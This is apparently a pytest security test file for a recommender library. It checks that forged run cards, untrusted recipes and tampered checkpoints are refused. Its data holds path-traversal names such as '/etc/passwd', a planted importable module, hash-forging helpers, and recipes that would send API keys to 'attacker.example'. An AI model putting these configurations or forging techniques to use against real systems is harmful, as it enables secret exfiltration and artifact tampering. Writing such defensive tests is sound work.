"""What a stranger's run folder, recipe or checkpoint can do: tried, one attempt after the other."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from interlingua import registry
from interlingua.errors import ArtifactError, ConfigError
from interlingua.recommender import Recommender
from interlingua.runs import recipe as recipes
from interlingua.runs import stages
from interlingua.runs.opening import open_session
from interlingua.runs.several import on_one_dataset
from interlingua.runs.trust import of_run
from interlingua.storage import artifact

RECIPE: dict[str, Any] = {
    "data": {"name": "planted", "options": {"num_users": 40, "num_items": 30}},
    "backbone": {"name": "mf", "embedding_dim": 4, "fit": {"epochs": 1}},
    "evaluate": {"protocols": ["full"]},
}
EVIL = "import pathlib\npathlib.Path(__file__).with_name('ran').write_text('')\n"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("runs")
    return stages.run(recipes.resolve(RECIPE, "small"), out=out, seed=3, device="cpu").path


@pytest.fixture
def run(made: Path, tmp_path: Path) -> Path:
    """A copy of a finished run, to be forged."""
    shutil.copytree(made.parent, tmp_path / "runs")
    return tmp_path / "runs" / made.name


@pytest.fixture
def evil(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[], bool]:
    """A module that leaves a mark when it is imported; says whether it was."""
    monkeypatch.syspath_prepend(str(tmp_path))
    sys.modules.pop("evil_module", None)
    (tmp_path / "evil_module.py").write_text(EVIL)
    return lambda: (tmp_path / "ran").exists()


def forge(folder: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """Edits a card as somebody would who knows how its hash is made."""
    card = json.loads((folder / artifact.CARD).read_text())
    change(card)
    card[artifact.CARD_HASH] = artifact._card_hash(card)
    (folder / artifact.CARD).write_text(json.dumps(card))


def opened_by(run: Path) -> list[Callable[[], object]]:
    """Every way in which a run is opened."""
    from typer.testing import CliRunner

    from interlingua.cli.main import app

    def command(*arguments: str) -> object:
        answer = CliRunner().invoke(app, [*arguments], catch_exceptions=False)
        return answer.exit_code

    path = str(run)
    return [
        lambda: open_session(run, "cpu"),
        lambda: Recommender.load(run, "cpu"),
        lambda: command("recommend", path, "--history", ""),
        lambda: command("explain", path, "x", "--history", ""),
        lambda: command("evaluate", path, "--protocol", "sampled-5"),
        lambda: command("embed", path),
        lambda: command("serve", path),
        lambda: command("demo", "--beside", path, "--out", str(run.parent / "demo")),
    ]


@pytest.mark.parametrize("section", ["backbone", "text", "align", "ranker"])
def test_a_strangers_run_imports_nothing(run: Path, evil: Callable[[], bool], section: str) -> None:
    forge(run, lambda card: card["recipe"].update({section: {"name": "evil_module:Evil"}}))
    for attempt in opened_by(run):
        with pytest.raises(ConfigError, match=r"is not trusted: it imports 'evil_module:Evil'.*--trust"):
            attempt()
    assert not evil()
    with pytest.raises(ConfigError, match="cannot import"):
        open_session(run, "cpu", trust=True)
    assert evil()


def test_a_class_named_by_a_parents_card_is_not_imported_either(run: Path, evil: Callable[[], bool]) -> None:
    (train,) = run.parent.glob("train-*")
    forge(train, lambda card: card["config"].update(name="evil_module:Evil"))
    Recommender.load(run, "cpu").recommend(history=[], k=2)
    assert not evil()


def test_a_strangers_run_sends_no_secret(run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MY_SECRET", "the-secret-itself")
    text = {"name": "http", "base_url": "http://localhost:9/v1", "key_variable": "MY_SECRET"}
    forge(run, lambda card: card["recipe"].update(text=text))
    for attempt in opened_by(run):
        with pytest.raises(ConfigError, match=r"speaks to the server .* reads the environment variable") as caught:
            attempt()
        assert "the-secret-itself" not in str(caught.value)


@pytest.mark.parametrize("name", ["../x", "os:system", "a/b", "os.path:join", "x:y:z", "eval(1)", ".hidden", ""])
def test_odd_names_end_in_words(name: str) -> None:
    with pytest.raises(ConfigError, match=r"is no name of|is no component|unknown"):
        registry.find("backbone", name, "recipe [backbone].name")


@pytest.mark.parametrize("name", ["../outside.json", "/etc/passwd", "C:\\x", "a/../../b", "..", "\\\\host\\share", ""])
def test_files_outside_the_folder_are_refused(run: Path, name: str) -> None:
    forge(run, lambda card: card["files"].update({name: "0" * 64}))
    with pytest.raises(ArtifactError, match="outside its folder"):
        open_session(run, "cpu")


@pytest.mark.parametrize("folder", ["../elsewhere/train-mf", "/tmp/train-mf", "deep/train-mf", ".."])
def test_parents_outside_the_runs_folder_are_refused(run: Path, folder: str) -> None:
    forge(run, lambda card: card["parents"]["train"].update(folder=folder))
    with pytest.raises(ArtifactError, match="outside its folder"):
        open_session(run, "cpu")


def test_a_runs_name_leads_nowhere(run: Path) -> None:
    forge(run, lambda card: card.update(name="../../../../escaped"))
    session = open_session(run, "cpu")
    options = session.recipe.evaluate.model_copy(update={"protocols": ["sampled-5"]})
    assert stages.reevaluate(session, options).path.parent == run.parent


def test_swapped_folders_are_refused(made: Path, tmp_path: Path) -> None:
    out = tmp_path / "runs"
    shutil.copytree(made.parent, out)
    values = {**RECIPE, "backbone": {**RECIPE["backbone"], "embedding_dim": 8}}
    stages.run(recipes.resolve(values, "other"), out=out, seed=3, device="cpu")
    one, two = sorted(out.glob("train-mf-*"))
    one.rename(out / "swap")
    two.rename(one)
    (out / "swap").rename(two)
    for run in out.glob("evaluate-*"):
        with pytest.raises(ArtifactError, match="was not made from what is in"):
            open_session(run, "cpu")
    with pytest.raises(ArtifactError):
        stages.run(recipes.resolve(RECIPE, "small"), out=out, seed=3, device="cpu")


def test_a_parent_with_other_contents_under_the_same_key_is_refused(run: Path) -> None:
    (train,) = run.parent.glob("train-mf-*")
    weights = train / "weights.safetensors"
    weights.write_bytes(weights.read_bytes()[:-1] + b"\x01")
    forge(train, lambda card: card["files"].update({weights.name: artifact.file_hash(weights)}))
    with pytest.raises(ArtifactError, match="made anew with other contents"):
        open_session(run, "cpu")


@pytest.mark.parametrize("files", [{}, "fewer"])
def test_a_card_that_does_not_list_what_is_read_is_refused(run: Path, files: Any) -> None:
    (train,) = run.parent.glob("train-mf-*")
    forge(train, lambda card: card["files"].clear() if files == {} else card["files"].pop("weights.safetensors"))
    with pytest.raises(ArtifactError, match="is not in the list of the stage's card"):
        open_session(run, "cpu")


def test_a_run_of_an_earlier_version_is_refused_in_words(run: Path) -> None:
    def earlier(card: dict[str, Any]) -> None:
        card.update(schema=1, parents={stage: made["folder"] for stage, made in card["parents"].items()})

    forge(run, earlier)
    with pytest.raises(ArtifactError, match=r"made by an earlier version.*run the recipe again"):
        open_session(run, "cpu")


BACKBONE = '[backbone]\nname = "{}"\n'
HTTP = '[backbone]\nname = "pop"\n[text]\nname = "http"\n{}'


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (BACKBONE.format("evil_module:Evil"), "imports 'evil_module:Evil'"),
        ('[data]\nname = "planted"\nreader = "evil_module:Evil"\n' + BACKBONE.format("pop"), "imports"),
        (HTTP.format('base_url = "http://localhost:1"\nkey_variable = "AWS_SECRET"'), "'AWS_SECRET'"),
        (HTTP.format('base_url = "https://attacker.example/v1"'), "sends texts and a key to 'https://attacker"),
    ],
)
def test_a_strangers_recipe_needs_trust(text: str, problem: str, tmp_path: Path, evil: Callable[[], bool]) -> None:
    path = tmp_path / "recipe.toml"
    path.write_text(text)
    with pytest.raises(ConfigError, match=problem):
        recipes.load(path)
    assert not evil()


REMOTE = '[backbone]\nname = "pretrained"\nitems = "postgresql://attacker.example/db#x"\n'
FUSED = '[fuse]\nname = "sum"\nmembers = [{}, "pop"]\n'


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (BACKBONE.format("evil_module:Evil"), "imports 'evil_module:Evil'"),
        (HTTP.format('base_url = "http://localhost:1"\nkey_variable = "AWS_SECRET"'), "'AWS_SECRET'"),
        (HTTP.format('base_url = "https://attacker.example/v1"'), "sends texts and a key to 'https://attacker"),
        (REMOTE, "reads vectors from the server 'postgresql://attacker"),
    ],
)
@pytest.mark.parametrize("place", ["alone", "member", "optional", "member of a member", "inline"])
@pytest.mark.parametrize("several", [False, True])
def test_wherever_a_strangers_recipe_says_it(
    text: str, problem: str, place: str, several: bool, tmp_path: Path, evil: Callable[[], bool]
) -> None:
    """By itself, in a file that a fusion names, in one that that names, or as a table; read alone or among others."""
    inner, outer = tmp_path / "inner.toml", tmp_path / "outer.toml"
    inner.write_text(text)
    named = {
        "member": f'"{inner}"', "optional": f'{{ name = "{inner}", optional = true }}',
        "member of a member": f'"{tmp_path / "middle.toml"}"', "inline": _inline(text),
    }  # fmt: skip
    (tmp_path / "middle.toml").write_text(FUSED.format(f'"{inner}"'))
    outer.write_text(text if place == "alone" else FUSED.format(named[place]))
    read = (lambda: on_one_dataset([outer, "pop"], "planted")) if several else (lambda: recipes.load(outer))
    with pytest.raises(ConfigError, match=problem):
        read()
    assert not evil()


def _inline(text: str) -> str:
    import tomllib

    def table(value: object) -> str:
        if isinstance(value, dict):
            return "{" + ", ".join(f"{key} = {table(each)}" for key, each in value.items()) + "}"
        return f'"{value}"'

    return table({"name": "inner", **tomllib.loads(text)})


def test_a_stored_fusion_says_what_its_members_demand() -> None:
    sections = [
        {"backbone": {"name": "evil_module:Evil"}}, {"ranker": {"name": "chat", "base_url": "http://localhost:1"}},
        {"text": {"name": "http", "key_variable": "OPENAI_API_KEY"}},
        {"backbone": {"name": "pretrained", "items": "postgresql://attacker.example/db#x"}},
    ]  # fmt: skip
    for own in sections:
        assert of_run(own)
        member = {"fuse": {"name": "sum", "members": [{"name": "m", **own}, {"name": "pop"}]}}
        assert of_run(member)
        assert of_run({"fuse": {"name": "sum", "members": [{"name": "f", **member}]}})


def test_what_the_user_says_or_ships_needs_none(tmp_path: Path) -> None:
    path = tmp_path / "recipe.toml"
    path.write_text(HTTP.format('base_url = "http://localhost:1"\nkey_variable = "OPENAI_API_KEY"'))
    recipes.load(path)
    recipes.load(path, ["text.base_url=https://example.org/v1", "text.key_variable=MINE"])
    for name in recipes.shipped():
        recipes.load(name)


def test_a_forged_checkpoint_finishes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def started(out: Path) -> Path:
        values = {**RECIPE, "backbone": {**RECIPE["backbone"], "fit": {"epochs": 3}}}
        return stages.run(recipes.resolve(values, "small"), out=out, seed=3, device="cpu").done["train"].path

    honest = started(tmp_path / "honest")
    out = tmp_path / "forged"
    partial = out / f"{honest.name}.partial"
    partial.mkdir(parents=True)
    shutil.copy(honest / "weights.safetensors", partial / "checkpoint-3.safetensors")
    epochs = [{"epoch": n, "rows": 1, "steps": 1, "losses": {}} for n in (1, 2, 3)]
    state = {"file": "checkpoint-3.safetensors", "epochs": epochs, "best_epoch": 0, "best": 0.0}
    (partial / "state.json").write_text(json.dumps(state))
    forged = started(out)
    assert "is not used, and training starts again" in capsys.readouterr().err
    assert artifact.file_hash(forged / "weights.safetensors") == artifact.file_hash(honest / "weights.safetensors")


def test_weights_that_lack_something_or_hold_more_are_refused() -> None:
    import torch
    from torch import nn

    from interlingua.training.checkpoint import load_trained, trainable_state

    module = nn.Sequential(nn.Linear(2, 2), nn.Linear(2, 2).requires_grad_(False))
    state = trainable_state(module, copy=True)
    load_trained(module, state)
    for wrong in ({}, {**state, "more": torch.zeros(1)}, {**state, "0.weight": torch.zeros(3, 3)}):
        with pytest.raises(ArtifactError, match=r"lack|too|do not fit"):
            load_trained(module, wrong)


def test_everything_is_on_the_disk_before_it_gets_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from interlingua.storage import durable

    done: list[str] = []
    own_sync, own_rename = os.fsync, os.replace
    monkeypatch.setattr(os, "fsync", lambda number: (done.append("sync"), own_sync(number))[1])
    monkeypatch.setattr(os, "replace", lambda a, b: (done.append("rename"), own_rename(a, b))[1])
    (tmp_path / "new").mkdir()
    (tmp_path / "new" / "file").write_text("x")
    durable.replace(tmp_path / "new", tmp_path / "final")
    assert done == ["sync", "sync", "rename", "sync"]


PORTABLE = """
import sys
sys.modules["fcntl"] = sys.modules["resource"] = None
from pathlib import Path
from interlingua.storage import artifact
from interlingua.runs import stages
from interlingua import recommender
from interlingua.cli import main
from interlingua.lm import locate
root = Path(sys.argv[1])
with artifact.locked(root, "train", "mf", "k" * 64):
    with artifact.writing(root, "train", "mf", "k" * 64, parents={}, fields={}) as folder:
        (folder / "a.json").write_text("{}")
print(artifact.load(root / "train-mf-kkkkkkkk").card["peak_memory_bytes"])
"""


def test_a_system_without_fcntl_and_resource_locks_and_counts(tmp_path: Path) -> None:
    answer = subprocess.run(
        [sys.executable, "-c", PORTABLE, str(tmp_path)], capture_output=True, text=True, timeout=120
    )
    assert answer.returncode == 0, answer.stderr
    assert answer.stdout.strip() == "None" or int(answer.stdout) > 0


def test_one_of_several_processes_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("WORLD_SIZE", "2")
    with pytest.raises(ConfigError, match=r"one of 2 processes .* without torchrun"):
        stages.run("pop", out=tmp_path, data="planted")
    monkeypatch.setenv("WORLD_SIZE", "1")
    stages.run(recipes.resolve({**RECIPE, "backbone": {"name": "pop"}}, "pop"), out=tmp_path)
